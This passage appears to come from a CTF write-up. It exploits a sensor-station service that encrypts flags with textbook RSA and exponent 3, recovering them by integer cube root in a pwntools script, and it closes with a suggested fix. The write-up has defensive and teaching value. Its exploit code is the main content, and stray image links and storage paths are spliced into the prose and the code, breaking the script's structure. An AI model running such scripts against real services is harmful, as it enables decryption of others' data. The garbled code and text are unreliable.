Since the modulus is 1024 bit and the exponent is just 3, any message smaller than n/3 bit can be recoveredjust by computing the cube root of the cyphertext.

def attack(ip, t_id, t_name):
    c = remote(ip, 65533)
    c.recvuntil('Welcome to the Temperature Sensor Station! What would you like to do?')

    for i in range(10):
        # query room to get encrypted flags
        # select room

        raw_data = c.recvuntil('Welcome to the Temperature Sensor Station! What would you like to do?',drop=True)
        enc_flags = re.findall(r'.*?\t(.*)\n', raw_data)for ef in enc_flags:
                enc = base64.b64decode(ef)
                num = unpack(enc, word_size=len(enc)*8, endianness='big')
                root, perfect = gmpy2.iroot(num,3)
                if perfect:
                    flag = pack(int(root), word_size='all', endianness='big')

Full PoC.


Changing exponent to 65537 should prevent this attack. Additionally, the encryption method should be set to PKCS1_OAEP (or PKCS1_v1_5), but we fear that it couldhave prevented the bot to successfully decrypt the ciphertext while checking for stored flags.